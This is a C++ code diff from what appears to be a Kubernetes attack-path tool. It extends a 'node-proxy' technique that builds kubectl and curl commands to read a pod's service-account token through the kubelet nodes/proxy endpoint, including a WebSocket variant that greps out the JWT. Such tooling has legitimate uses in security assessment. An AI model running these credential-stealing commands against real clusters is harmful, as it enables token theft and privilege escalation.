@@ -27,6 +27,27 @@ void apply(const Evaluation& at) {
   }
 }
 
+constexpr std::string_view kToken = "/var/run/secrets/kubernetes.io/serviceaccount/token";
+
+std::string by_post(const StepView& view, const std::string& node, const std::string& place) {
+  const auto path = fmt::format("/api/v1/nodes/{}/proxy/run/{}?cmd=cat%20{}", node, place, kToken);
+  return keep_token(view,
+                    fmt::format("{} create --raw {} -f /dev/null", view.kubectl, shell_word(path)));
+}
+
+// kubectl has no raw WebSocket; its proxy adds the credentials to that of curl.
+std::string by_websocket(const StepView& view, const std::string& node, const std::string& place) {
+  const auto url = fmt::format(
+      "http://127.0.0.1:8001/api/v1/nodes/{}/proxy/exec/{}?command=cat&command={}&output=1", node,
+      place, kToken);
+  const auto curl = fmt::format(
+      "curl -sN --http1.1 -H 'Connection: Upgrade' -H 'Upgrade: websocket' "
+      "-H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==' "
+      "-H 'Sec-WebSocket-Protocol: v4.channel.k8s.io' {} | grep -ao 'ey[A-Za-z0-9._-]*'",
+      shell_word(url));
+  return fmt::format("{} proxy --port=8001 &\nsleep 1\n{}", view.kubectl, keep_token(view, curl));
+}
+
 StepText text(const StepView& view) {
   const auto account =
       view.world.find_account(view.world.find_scope(view.account_ns), view.account);
@@ -34,13 +55,11 @@ StepText text(const StepView& view) {
     if (pod.account != account || pod.node == kNone) continue;
     const auto& node = view.world.nodes()[pod.node];
     if (!view.edge.note.empty() && view.edge.note != node) continue;
-    return {fmt::format("{} get --raw {}", view.kubectl,
-                        shell_word(fmt::format(
-                            "/api/v1/nodes/{}/proxy/exec/{}/{}/CONTAINER?command=cat&command=/var/"
-                            "run/secrets/kubernetes.io/serviceaccount/token&output=1",
-                            node, view.account_ns, pod.name))),
+    const auto place = fmt::format("{}/{}/CONTAINER", view.account_ns, pod.name);
+    return {uses(view.edge, kGetNodeProxy) ? by_websocket(view, node, place)
+                                           : by_post(view, node, place),
             "nodes/proxy reaches the kubelet, which runs commands in every pod of the node without "
-            "asking or logging (the request is made as a WebSocket)"};
+            "asking or logging; `get` is enough when the request becomes a WebSocket"};
   }
   return {};
 }
@@ -48,7 +67,7 @@ StepText text(const StepView& view) {
 }  // namespace
 
 Technique node_proxy() {
-  return {{"node-proxy", "Run a command through the kubelet", "T1609", "5.1.11"},
+  return {{"node-proxy", "Run a command through the kubelet", "T1609", "5.1.10"},
           Takes::Reading,
           11,
           kAtCluster,
